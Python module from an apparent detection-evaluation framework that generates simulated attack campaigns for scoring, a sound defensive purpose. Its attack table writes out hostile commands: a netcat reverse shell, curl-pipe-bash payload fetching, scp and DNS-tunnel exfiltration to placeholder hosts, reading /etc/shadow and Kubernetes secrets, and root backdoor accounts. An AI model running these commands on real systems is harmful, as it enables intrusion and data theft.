"""Attacks that nothing learned of: ten families, six kinds of what speaks for the attacker, and how much he copies.

An attack is three to six steps at one workload within two hours. With the share of mimicry a step is something that
is usual here instead: four of five times to the letter, else with another destination or other numbers; mostly of
the very workload where that does such things, else of another. What the attack is worth to its maker is in the rest.
"""

# ruff: noqa: S108  an attacker's paths are meant
from __future__ import annotations

from collections.abc import Sequence
from typing import NamedTuple

import numpy as np

from plimsoll.evaluate.simulated.cluster import Habit, Person, Workload
from plimsoll.evaluate.simulated.days import DAY, HOUR, MINUTE, SESSION_STEPS, SHELL, START, Row, Told, World

CONTEXTS = ("none", "stolen-admin", "self-ticket", "window-squat", "piggyback", "insider")
MIMICRY = 0.15
EXACT = 0.8
"""Of copied steps: to the letter."""
AT_HOME = 0.7
"""Of copied steps: of the very workload, where it has any."""
FOOLED = 0.15
"""How often one who approved of work confirms, when asked, what was not that work."""
LINEAGE = 0.5
"""How often all that a person's session did is known to be his; else only the shell is."""
_S = tuple[str, str, str, str, str, str]
FAMILIES: dict[str, Sequence[_S]] = {
    "web-shell": (
        ("Run shell untrusted", "notice", "/bin/dash", "/usr/sbin/nginx", "sh -c whoami; uname -a", ""),
        ("Web Server Spawned Shell", "critical", "/bin/dash", "/usr/sbin/nginx", "sh -c cat /etc/hostname", ""),
        ("Write below etc", "error", "/usr/bin/tee", "/bin/dash", "tee /etc/ld.so.preload", "/etc/ld.so.preload"),
        ("Interpreted procs outbound network activity", "notice", "/usr/bin/perl", "/bin/dash", "perl -e use Socket;", "198.51.100.66:4444"),
        ("Run shell untrusted", "notice", "/bin/dash", "/usr/bin/php-fpm", "sh -c ls -la /var/www", ""),
    ),
    "mining": (
        ("Launch Ingress Remote File Copy Tools in Container", "notice", "/usr/bin/curl", "/bin/dash", "curl -s http://198.51.100.9/k.sh", "198.51.100.9:80"),
        ("Run shell untrusted", "notice", "/bin/bash", "/usr/bin/java", "bash -c (curl -s 198.51.100.9/k.sh)|bash", ""),
        ("Drop and execute new binary in container", "critical", "/var/tmp/.x/kworker", "/bin/bash", "/var/tmp/.x/kworker -B", ""),
        ("Detect outbound connections to common miner pool ports", "critical", "/var/tmp/.x/kworker", "/bin/bash", "/var/tmp/.x/kworker -B", "198.51.100.10:3333"),
        ("Network Connection outside Local Subnet", "warning", "/var/tmp/.x/kworker", "/bin/bash", "/var/tmp/.x/kworker -B", "198.51.100.10:443"),
    ),
    "token-theft": (
        ("Contact K8S API Server From Container", "notice", "/usr/bin/wget", "/bin/dash", "wget -qO- https://10.96.0.1/api/v1/secrets", "10.96.0.1:443"),
        ("Contact K8S API Server From Container", "notice", "/tmp/kc", "/bin/dash", "/tmp/kc auth can-i --list", "10.96.0.1:443"),
        ("Read sensitive file untrusted", "warning", "/bin/cat", "/bin/dash", "cat /var/run/secrets/token", "/var/run/secrets/token"),
        ("Kubernetes Client Tool Launched in Container", "warning", "/tmp/kc", "/bin/dash", "/tmp/kc get secrets -A", ""),
        ("Run shell untrusted", "notice", "/bin/dash", "/usr/bin/ruby", "sh -c env", ""),
    ),
    "breakout": (
        ("Change thread namespace", "notice", "/usr/bin/nsenter", "/bin/dash", "nsenter --target 1 --all", ""),
        ("Mount Launched in Privileged Container", "warning", "/bin/mount", "/bin/dash", "mount /dev/nvme0n1p1 /h", ""),
        ("Detect release_agent File Container Escapes", "critical", "/bin/dash", "/bin/dash", "sh -c echo 1 > notify_on_release", ""),
        ("Create files below dev", "error", "/bin/mknod", "/bin/dash", "mknod /dev/h b 259 1", "/dev/h"),
        ("Change namespace privileges via unshare", "notice", "/usr/bin/unshare", "/bin/dash", "unshare -UrmC", ""),
    ),
    "key-hunting": (
        ("Search Private Keys or Passwords", "warning", "/usr/bin/find", "/bin/dash", "find / -name *.pem", ""),
        ("Find AWS Credentials", "warning", "/bin/grep", "/bin/dash", "grep -r aws_secret /", ""),
        ("Read environment variable from /proc files", "warning", "/usr/bin/strings", "/bin/dash", "strings /proc/1/environ", "/proc/*/environ"),
        ("Read sensitive file untrusted", "warning", "/usr/bin/head", "/bin/dash", "head /etc/shadow", "/etc/shadow"),
        ("Contact cloud metadata service from container", "notice", "/usr/bin/wget", "/bin/dash", "wget -qO- http://169.254.169.254/latest", "169.254.169.254:80"),
    ),
    "moving-on": (
        ("Launch Suspicious Network Tool in Container", "notice", "/tmp/fscan", "/bin/dash", "/tmp/fscan -h 10.0.0.0/16", ""),
        ("Disallowed SSH Connection Non Standard Port", "notice", "/usr/bin/ssh", "/bin/dash", "ssh -p 2222 root@10.0.3.4", "10.0.3.4:2222"),
        ("System procs network activity", "notice", "/bin/bash", "/bin/dash", "bash -i", "10.0.3.4:6379"),
        ("Contact K8S API Server From Container", "notice", "/usr/bin/socat", "/bin/dash", "socat - OPENSSL:10.96.0.1:443", "10.96.0.1:443"),
        ("Run shell untrusted", "notice", "/bin/dash", "/usr/bin/redis-server", "sh -c id", ""),
    ),
    "smuggling": (
        ("Read sensitive file trusted after startup", "warning", "/usr/bin/base64", "/bin/dash", "base64 /data/dump", "/etc/shadow"),
        ("Launch Remote File Copy Tools in Container", "notice", "/usr/bin/scp", "/bin/dash", "scp /tmp/d.tgz x@198.51.100.77:", "198.51.100.77:22"),
        ("Unexpected UDP Traffic", "notice", "/usr/bin/iodine", "/bin/dash", "iodine -f t.example", "198.51.100.77:53"),
        ("Network Connection outside Local Subnet", "warning", "/usr/bin/curl", "/bin/dash", "curl -T /tmp/d.tgz https://drop.example", "198.51.100.78:443"),
        ("Decoding Payload in Container", "info", "/usr/bin/base64", "/bin/dash", "base64 -d /tmp/p", ""),
    ),
    "staying": (
        ("Schedule Cron Jobs", "notice", "/usr/bin/crontab", "/bin/dash", "crontab /tmp/c", ""),
        ("Write below binary dir", "error", "/bin/cp", "/bin/dash", "cp /tmp/b /usr/bin/ps", "/usr/bin/ps"),
        ("Adding ssh keys to authorized_keys", "warning", "/usr/bin/tee", "/bin/dash", "tee -a /root/.ssh/authorized_keys", "/root/.ssh/authorized_keys"),
        ("Modify Shell Configuration File", "warning", "/usr/bin/tee", "/bin/dash", "tee -a /root/.bashrc", "/root/.bashrc"),
        ("User mgmt binaries", "notice", "/usr/sbin/useradd", "/bin/dash", "useradd -o -u 0 sys", ""),
    ),
    "poisoned-package": (
        ("Drop and execute new binary in container", "critical", "/usr/lib/node_modules/.b/x", "/usr/bin/node", "/usr/lib/node_modules/.b/x", ""),
        ("Network Connection outside Local Subnet", "warning", "/usr/bin/node", "/usr/bin/npm", "node postinstall.js", "198.51.100.90:443"),
        ("Read environment variable from /proc files", "warning", "/usr/bin/node", "/usr/bin/npm", "node postinstall.js", "/proc/*/environ"),
        ("Run shell untrusted", "notice", "/bin/sh", "/usr/bin/node", "sh -c node -p process.env", ""),
        ("Contact K8S API Server From Container", "notice", "/usr/bin/node", "/usr/bin/npm", "node postinstall.js", "10.96.0.1:443"),
    ),
    "hands-on": (
        ("Run shell untrusted", "notice", "/bin/bash", "/usr/bin/su", "bash -c history -c", ""),
        ("Launch Package Management Process in Container", "error", "/usr/bin/apt-get", "/bin/bash", "apt-get install -y netcat", ""),
        ("Launch Remote File Copy Tools in Container", "notice", "/usr/bin/pg_dump", "/bin/bash", "pg_dump -Fc bank", ""),
        ("Read sensitive file untrusted", "warning", "/usr/bin/vi", "/bin/bash", "vi /etc/shadow", "/etc/shadow"),
        ("Netcat Remote Code Execution in Container", "warning", "/bin/nc", "/bin/bash", "nc -e /bin/sh 198.51.100.5 9001", "198.51.100.5:9001"),
    ),
}  # fmt: skip


class Campaign(NamedTuple):
    """An attack."""

    family: str
    context: str
    mimicry: float
    times: tuple[int, ...]
    steps: tuple[Row, ...]
    told: tuple[Told, ...]
    """What context says beside what holds anyway."""
    copied: tuple[bool, ...]
    """Of each step, whether it is to the letter what this very workload does anyway."""
    fooled: bool
    """One who is asked confirms it."""

    @property
    def indistinguishable(self) -> bool:
        """Whether it is made of what this workload does anyway, and nothing else."""
        return all(self.copied)


def campaigns(
    world: World,
    number: int,
    count: int,
    mimicry: float = MIMICRY,
    mark: int = 0,
    families: Sequence[str] = tuple(FAMILIES),
) -> list[Campaign]:
    """Return attacks on a day of a world; families and contexts take turns.

    >>> one = campaigns(World(1), 3, 60)
    >>> len({attack.family for attack in one}), len({attack.context for attack in one})
    (10, 6)
    """
    dice = np.random.default_rng([world.seed, 3, number, mark])
    turns = len(families)
    return [
        _campaign(dice, world, number, families[one % turns], CONTEXTS[one // turns % len(CONTEXTS)], mimicry)
        for one in range(count)
    ]


def _campaign(
    dice: np.random.Generator, world: World, number: int, family: str, context: str, mimicry: float
) -> Campaign:
    workload = world.cluster.workloads[int(dice.integers(len(world.cluster.workloads)))]
    pods = world.pods(workload, number)
    pod, node = pods[int(dice.integers(len(pods)))]
    who, ip = _adversary(dice, world, context)
    at = START + number * DAY + _when(dice, context, number)
    lineage = bool(dice.random() < LINEAGE)
    steps, copied = [], []
    for place in range(int(dice.integers(3, 7))):
        personal = who is not None and (place == 0 or lineage)
        made, same = _step(dice, world, number, workload, family, personal=personal, first=place == 0, mimicry=mimicry)
        row = world.row(workload, made, number, pod, node)
        if who is not None and personal:
            row = row._replace(actor=who.name, ip=ip, agent=who.agent, groups=("admins",) if who.admin else ("staff",))
        elif not same and not made.exe.startswith(("/bin/", "/usr/")):
            row = row._replace(exe_hash="f" * 64)
        steps.append(row)
        copied.append(same)
    times = tuple(at + int(minute) * MINUTE for minute in np.sort(dice.integers(0, 120, len(steps))))
    told = _told(dice, world, context, who, workload, at) if who else ()
    return Campaign(family, context, mimicry, times, tuple(steps), told, tuple(copied), bool(dice.random() < FOOLED))


def _when(dice: np.random.Generator, context: str, number: int) -> int:
    """Return when it begins; who squats a window waits for one, if there is one that day."""
    if context == "window-squat" and number % 7 in (1, 3):
        return 22 * HOUR + int(dice.integers(0, HOUR // 2))
    return int(dice.integers(0, 22 * HOUR))


def _adversary(dice: np.random.Generator, world: World, context: str) -> tuple[Person | None, str]:
    """Return in whose name it is done, and from where: a program's own, or somebody's."""
    if context == "none":
        return None, ""
    admins = [one for one in world.cluster.people if one.admin]
    who = admins[int(dice.integers(len(admins)))]
    at_home = context == "insider" or (context == "piggyback" and dice.random() < 0.5)
    return (
        (who, who.ip)
        if at_home
        else (who._replace(agent="kubectl/v1.31.0 (linux/amd64)"), f"192.0.2.{dice.integers(2, 250)}")
    )


def _step(
    dice: np.random.Generator,
    world: World,
    number: int,
    workload: Workload,
    family: str,
    *,
    personal: bool,
    first: bool,
    mimicry: float,
) -> tuple[Habit, bool]:
    """Return a step, and whether it is to the letter what this workload does anyway."""
    if personal:
        usual = dice.random() < mimicry
        pool: Sequence[Sequence[str]] = SESSION_STEPS if usual else FAMILIES[family]
        # A session begins with a shell, whoever opens it: the shell itself is no copy of anything of this workload.
        step = SHELL if first else pool[int(dice.integers(len(pool)))]
        return Habit(step[0], step[1], step[2], step[3], step[4], step[5]), False
    if dice.random() < mimicry:
        return _copied(dice, world, number, workload)
    drawn = FAMILIES[family][int(dice.integers(len(FAMILIES[family])))]
    return Habit(*drawn), False


def _copied(dice: np.random.Generator, world: World, number: int, workload: Workload) -> tuple[Habit, bool]:
    own = [habit for habit, _ in world.habits(workload, number)]
    others = world.cluster.workloads
    home = bool(own) and dice.random() < AT_HOME
    while not home and not (
        own := [habit for habit, _ in world.habits(others[int(dice.integers(len(others)))], number)]
    ):
        continue
    habit = own[int(dice.integers(len(own)))]
    if dice.random() < EXACT:
        return habit, home
    if habit.destination and dice.random() < 0.5:
        return habit._replace(destination="198.51.100.99:443"), False
    return habit._replace(command=f"{habit.command} {dice.integers(1000)} /tmp/.cache"), False


def _told(
    dice: np.random.Generator, world: World, context: str, who: Person, workload: Workload, at: int
) -> tuple[Told, ...]:
    """Return what speaks for the attacker: a ticket of his own, or one that is true and not about this."""
    others = [one.name for one in world.cluster.people if one.name != who.name]
    creator, approver = (str(one) for one in dice.choice(others, 2, replace=False))
    true = Told("ticket", "OPS-true", (who.name,), creator, approver, at - DAY, at - DAY // 2, at - DAY // 2, at + 4 * HOUR,
                (workload.name,), ("shell", "package-management"), False, at - DAY // 2)  # fmt: skip
    if context == "self-ticket":
        fresh = at - int(dice.integers(MINUTE, 3 * HOUR))
        return (true._replace(id="OPS-own", creator=who.name, approver=str(dice.choice([who.name, approver])), created=fresh,
                              approved=fresh, since=fresh, edited=fresh),)  # fmt: skip
    if context == "piggyback" or (context == "insider" and dice.random() < 0.5):
        return (true,)
    return ()
